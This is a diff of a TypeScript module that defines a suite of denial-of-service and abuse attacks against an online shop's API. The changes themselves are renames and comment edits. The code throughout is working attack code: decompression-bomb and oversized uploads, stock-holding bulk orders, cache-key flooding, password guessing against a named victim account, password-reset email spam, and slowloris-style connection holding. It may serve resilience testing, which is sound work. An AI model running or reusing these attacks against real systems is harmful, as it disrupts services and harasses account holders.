@@ -5,15 +5,14 @@ import { type Client, formWith } from './client.ts';
 
 export interface Target {
   url: string;
-  /** The attacker's one address. */
   localAddress: string;
-  ask: Client;
+  send: Client;
   slug: string;
   productId: string;
-  /** An account of somebody else. */
+  /** Email address of another account. */
   victim: string;
 }
-/** One thing to do again and again; answers the status, or 0. */
+/** @returns the status, or 0 when the connection broke */
 export type Attack = (target: Target, round: number) => Promise<number>;
 
 const attacker = (n: number) => ({
@@ -25,17 +24,17 @@ const attacker = (n: number) => ({
 });
 let token = '';
 
-async function upload({ ask, slug }: Target, file: Buffer): Promise<number> {
+async function upload({ send, slug }: Target, file: Buffer): Promise<number> {
   if (!token) {
-    await ask('/api/v1/user/signup', { method: 'POST', json: attacker(0) });
-    token = JSON.parse((await ask('/api/v1/user/login', { method: 'POST', json: attacker(0) })).text).token ?? '';
+    await send('/api/v1/user/signup', { method: 'POST', json: attacker(0) });
+    token = JSON.parse((await send('/api/v1/user/login', { method: 'POST', json: attacker(0) })).text).token ?? '';
   }
   const form = formWith({ rating: '1', comment: 'Bad.' }, file);
-  return (await ask(`/api/v1/product/products/${slug}/reviews`, { method: 'POST', token, ...form })).status;
+  return (await send(`/api/v1/product/products/${slug}/reviews`, { method: 'POST', token, ...form })).status;
 }
 
 const noise = randomBytes(10 * 1024 * 1024 - 1_000);
-/** About 100 kB that want 400 MB when they are decoded. */
+/** 100 kB that decode to 400 MB. */
 const bomb = sharp({ create: { width: 10_000, height: 10_000, channels: 4, background: '#fff' } })
   .png({ progressive: true, compressionLevel: 9 })
   .toBuffer();
@@ -43,11 +42,10 @@ const smallBomb = sharp({ create: { width: 3_400, height: 3_400, channels: 4, ba
   .png({ progressive: true, compressionLevel: 9 })
   .toBuffer();
 
-/** Everything at once, from one address. */
 export const attacks: Record<string, Attack> = {
   'uploads of 10 MB': (target) => upload(target, noise),
-  'interlaced picture bombs': async (target, round) => upload(target, await (round % 2 ? bomb : smallBomb)),
-  holds: async ({ ask, productId }, round) => {
+  'decompression bombs': async (target, round) => upload(target, await (round % 2 ? bomb : smallBomb)),
+  holds: async ({ send, productId }, round) => {
     const delivery = {
       name: 'Attacker',
       phone: '90000 00000',
@@ -55,9 +53,9 @@ export const attacks: Record<string, Attack> = {
       address: 'Nowhere 2',
     };
     const json = { amount: 25_000 * 9, product: { _id: productId, quantity: 9 }, delivery };
-    return (await ask('/api/v1/product/orders', { method: 'POST', json })).status;
+    return (await send('/api/v1/product/orders', { method: 'POST', json })).status;
   },
-  'invented cache keys': async ({ ask, slug }, round) => {
+  'invented cache keys': async ({ send, slug }, round) => {
     const word = `${round}-${randomBytes(6).toString('hex')}`;
     const json = {
       checked: [],
@@ -66,19 +64,19 @@ export const attacks: Record<string, Attack> = {
       limit: 1,
       invented: word.repeat(round % 3 ? 20 : 2_000),
     };
-    await ask('/api/v1/product/product-filters', { method: 'POST', json });
-    await ask(`/product/${slug}?invented=${word.repeat(60)}`);
-    return (await ask(`/api/v1/product/search/${word}`)).status;
+    await send('/api/v1/product/product-filters', { method: 'POST', json });
+    await send(`/product/${slug}?invented=${word.repeat(60)}`);
+    return (await send(`/api/v1/product/search/${word}`)).status;
   },
-  logins: async ({ ask, victim }, round) =>
-    (await ask('/api/v1/user/login', { method: 'POST', json: { email: victim, password: `wrong ${round}` } })).status,
-  'sign-ups and emails': async ({ ask, victim }, round) => {
-    await ask('/api/v1/user/signup', { method: 'POST', json: attacker(round + 1) });
-    return (await ask('/api/v1/user/forgetpassword', { method: 'POST', json: { email: victim } })).status;
+  logins: async ({ send, victim }, round) =>
+    (await send('/api/v1/user/login', { method: 'POST', json: { email: victim, password: `wrong ${round}` } })).status,
+  'sign-ups and emails': async ({ send, victim }, round) => {
+    await send('/api/v1/user/signup', { method: 'POST', json: attacker(round + 1) });
+    return (await send('/api/v1/user/forgetpassword', { method: 'POST', json: { email: victim } })).status;
   },
-  'unknown paths': async ({ ask }, round) => (await ask(`/${randomBytes(4).toString('hex')}/${round}`)).status,
-  'page data': async ({ ask, slug }, round) =>
-    (await ask(`/product/${slug}${round % 2 ? '' : round}.data?x=${round}`)).status,
+  'unknown paths': async ({ send }, round) => (await send(`/${randomBytes(4).toString('hex')}/${round}`)).status,
+  'page data': async ({ send, slug }, round) =>
+    (await send(`/product/${slug}${round % 2 ? '' : round}.data?x=${round}`)).status,
   'headers byte by byte': (target) => holdSocket(target, `GET /${'x'.repeat(500)} HTTP/1.1\r\nHost: a\r\n`),
   'silent connections': (target) => holdSocket(target, ''),
   'unfinished bodies': (target) =>
@@ -89,7 +87,7 @@ export const attacks: Record<string, Attack> = {
     ),
 };
 
-/** Keeps a connection for 20 seconds or until the shop ends it, and writes a byte of `slowly` each tenth of a second. */
+/** Holds a connection for up to 20 seconds and writes a byte of `slowly` every 100 ms. */
 function holdSocket({ url, localAddress }: Target, slowly: string, first = ''): Promise<number> {
   const { hostname, port } = new URL(url);
   return new Promise((done) => {
